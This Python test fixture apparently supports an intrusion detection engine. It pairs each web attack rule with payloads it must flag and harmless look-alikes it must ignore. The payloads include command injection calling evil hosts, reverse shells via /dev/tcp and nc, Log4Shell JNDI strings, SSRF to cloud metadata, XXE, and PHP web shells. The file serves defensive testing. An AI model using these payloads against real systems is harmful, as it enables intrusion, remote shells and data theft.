"""For each attack that comes with srxnf: what it must find, and what looks like it and is none.

A sample is the part of the message that matters: a target, a form's text, a header's value.
"""

from tests.services.idp import query_samples
from tests.services.idp.carriers import EICAR, agent, answer, body, cookie, form, header, target, uri
from tests.services.idp.traffic import Stream, request, up

SAMPLES: dict[str, tuple[tuple[Stream, ...], tuple[Stream, ...]]] = {
    **query_samples.SAMPLES,
    "WEB:COMMAND:SEPARATOR": (
        (uri("1;cat /etc/motd"), uri("x|id"), form("a && wget http://evil/x"), uri("a\nls -la"), uri("x;/bin/bash -c y")),
        (uri("dogs; cats and birds"), uri("a | b | identity"), form("read this; more is better"), uri("ping me; thanks")),
    ),
    "WEB:COMMAND:SUBSTITUTION": (
        (uri("$(whoami)"), uri("`id`"), form("$(curl evil.test)"), agent("$(sleep 5)")),
        (uri("costs $(20)"), uri("the `identity` function"), uri("$(idea)")),
    ),
    "WEB:COMMAND:REVERSE-SHELL": (
        (uri("bash -i >& /dev/tcp/10.0.0.1/4444"), form("mkfifo /tmp/f"), uri("nc -e /bin/sh 1.2.3.4")),
        (uri("/dev/tcp guide"), uri("bash -installation"), uri("nc -electronics")),
    ),
    "WEB:COMMAND:POWERSHELL": (
        (uri("powershell -enc SQBFAFgA"), form("IEX (New-Object Net.WebClient)"), uri("powershell.exe -w hidden")),
        (uri("powershell encoding"), uri("power shell -enclosure")),
    ),
    "WEB:COMMAND:SHELLSHOCK": (
        (header("() { :;}; /bin/id"), agent("() { x;}; echo"), cookie("a=() { :; }; ping")),
        (header("function () { return 1 }"), header("() => { }")),
    ),
    "WEB:CODE:LOG4SHELL": (
        (
            uri("${jndi:ldap://evil/a}"),
            agent("${jndi:rmi://x}"),
            header("${${lower:j}ndi:ldap://x}"),
            cookie("x=${${::-j}ndi:dns://y}"),
            body("${JNDI:LDAP://x}", "text/plain"),
        ),
        (uri("${name}"), header("${user.jndi}"), uri("jndi:ldap is a scheme")),
    ),
    "WEB:CODE:SPRING4SHELL": (
        (target("/a?class.module.classLoader.x=1"), form("class.module.classLoader.resources")),
        (target("/a?class.module=1"), target("/classmodule/classLoader")),
    ),
    "WEB:CODE:OGNL": (
        (uri("%{(#_memberAccess=1)}"), up(request("/", content_type="%{(#context['x'])}")), body("${#cmd='id'}", "text/plain")),
        (uri("%{name}"), uri("100%{#}")),
    ),
    "WEB:CODE:TEMPLATE": (
        (uri("{{7*7}}"), form("{{config}}"), uri("${7*7}"), uri("{{''.__class__.__mro__}}"), uri("<%= 7*7 %>")),
        (uri("{{ name }}"), uri("{{configuration of mine}}"), uri("${price}")),
    ),
    "WEB:CODE:JAVA-RUNTIME": (
        (uri("T(java.lang.Runtime)"), form("getRuntime().exec('id')"), uri("freemarker.template.utility.Execute")),
        (uri("java.lang.String"), uri("the Java runtime")),
    ),
    "WEB:CODE:JAVA-OBJECT": (
        (body(b"\xac\xed\x00\x05sr\x00", "application/octet-stream"), cookie("s=rO0ABXNyABFq")),
        (body(b"x\xac\xed\x00\x05", "application/octet-stream"), cookie("s=ArO0ABXNy")),
    ),
    "WEB:CODE:PHP-OBJECT": ((uri('O:8:"stdClass":1:{'), cookie('x=O:4:"Evil":2:{')), (uri('NO:8:"x"'), uri('O:8: "a"'))),
    "WEB:CODE:PHP": (
        (uri("<?php system('id');"), uri("eval($_POST['x'])"), agent("<?php x")),
        (uri("php system"), uri("<?phpinfo"), uri("eval(x)")),
    ),
    "WEB:CODE:PHPUNIT": (
        (target("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),),
        (target("/phpunit/src/eval-stdin"),),
    ),
    "WEB:CODE:PROTOTYPE": (
        (
            target("/a?__proto__[x]=1"),
            body('{"__proto__": {"x": 1}}', "application/json"),
            target("/?constructor[prototype][x]=1"),
        ),
        (target("/a?proto=1"), body('{"constructor": "x"}', "application/json")),
    ),
    "WEB:SSRF:METADATA": (
        (
            target("/fetch?url=http://169.254.169.254/latest/"),
            form("http://metadata.google.internal/x"),
            target("/f?u=169.254.169.254"),
        ),
        (target("/f?u=http://169.254.169.25"), uri("what is metadata.google.internal.example")),
    ),
    "WEB:SSRF:SCHEME": (
        (target("/f?u=gopher://127.0.0.1:6379/"), target("/f?u=file:///x"), target("/f?u=dict://x")),
        (target("/f?u=https://gopher.example"), target("/f?q=gopher")),
    ),
    "WEB:SSRF:PHP-WRAPPER": (
        (
            target("/i.php?p=php://filter/convert.base64-encode/resource=x"),
            target("/?p=phar://x"),
            target("/?p=data:text/plain;base64,eA"),
        ),
        (target("/?p=php"), target("/?q=expect: 5")),
    ),
    "WEB:SSRF:REMOTE-FILE": (
        (target("/i.php?page=http://evil.test/shell.txt?"), target("/i.php?a=1&page=https://evil.test/x.php??")),
        (target("/go?to=http://ok.test/a.txt"), target("/go?to=http://ok.test/?x")),
    ),
    "WEB:XML:EXTERNAL-ENTITY": (
        (body('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>'), body("<!ENTITY % p PUBLIC 'a' 'b'>")),
        (body('<!DOCTYPE html SYSTEM "about:legacy-compat">'), body("<!ENTITY copy '(c)'>")),
    ),
    "WEB:XML:ENTITY-BOMB": ((body('<!ENTITY b "&a;&a;&a;&a;&a;&a;">'),), (body('<!ENTITY b "&lt;b&gt;">'),)),
    "WEB:INJECTION:LDAP": ((uri("*)(uid=*"), uri("x*)(|(a=b")), (uri("f(x)*(y)"), uri("*) note"))),
    "WEB:INJECTION:XPATH": (
        (uri("' or count(//user)>0"), uri("'] [string-length(parent::x)")),
        (uri("'a' or count (them)"), uri("' and name (x)")),
    ),
    "WEB:INJECTION:HEADER": (
        (target("/a?x=1%0d%0aSet-Cookie:%20a=b"), target("/a%0aLocation:%20x")),
        (target("/a?text=one%0d%0atwo"),),
    ),
    "WEB:INJECTION:TOKEN-NONE": (
        (up(request("/", authorization="Bearer eyJhbGciOiJub25lIn0.e30.")), cookie("t=eyJhbGciOiJub25lIn0.e30.")),
        (up(request("/", authorization="Bearer eyJhbGciOiJIUzI1NiJ9.e30.x")),),
    ),
    "WEB:UPLOAD:SCRIPT": (
        (
            body(
                '--b\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\nhi\r\n--b--',
                "multipart/form-data; boundary=b",
            ),
            body('filename="a.php5.jpg"\r\n', "text/plain"),
        ),
        (body('filename="a.jpg"\r\n', "text/plain"), body('filename="php.txt"\r\n', "text/plain")),
    ),
    "WEB:UPLOAD:WEB-SHELL": (
        (
            body("<?php @eval($_POST['x']);", "text/plain"),
            body('<% eval(Request("x")) %>', "text/plain"),
            body("assert(@base64_decode('x'))", "text/plain"),
        ),
        (body("eval(x)", "text/plain"), body("the system ($5)", "text/plain")),
    ),
    "WEB:SCANNER:SQLMAP": ((agent("sqlmap/1.7#stable"),), (agent("mysqlmap"),)),
    "WEB:SCANNER:NIKTO": ((agent("Mozilla/5.00 (Nikto/2.1.6)"),), (agent("Nikto"),)),
    "WEB:SCANNER:PORT-SCANNER": (
        (agent("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), agent("masscan/1.3")),
        (agent("Nmapper"),),
    ),
    "WEB:SCANNER:DIRECTORIES": ((agent("gobuster/3.5"), agent("Fuzz Faster U Fool v2")), (agent("my gobuster/3"),)),
    "WEB:SCANNER:VULNERABILITIES": ((agent("Nuclei - Open-source project"), agent("WPScan v3.8")), (agent("Nucleic acid"),)),
    "WEB:SCANNER:METHOD": ((up(request("/", "TRACE")),), (up(request("/", "GET")), up(request("/", "PUT")))),
    "WEB:CONTENT:EICAR": ((answer(EICAR), answer("x" * 5000 + EICAR)), (answer(EICAR[:-5]),)),
    "WEB:CONTENT:SQL-ERROR": (
        (answer("You have an error in your SQL syntax; check"), answer("ORA-00933: SQL command")),
        (answer("ORA-00933"),),
    ),
    "WEB:CONTENT:DIRECTORY": ((answer("<title>Index of /pub</title>"),), (answer("<title>Index of contents</title>"),)),
    "WEB:PROTOCOL:SMUGGLING": (
        (up(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),),
        (uri("smuggling"),),
    ),
    "WEB:PROTOCOL:MALFORMED": ((up(b"GET /\x01 HTTP/1.1\r\nHost: a\r\n\r\n"),), (uri("malformed"),)),
}
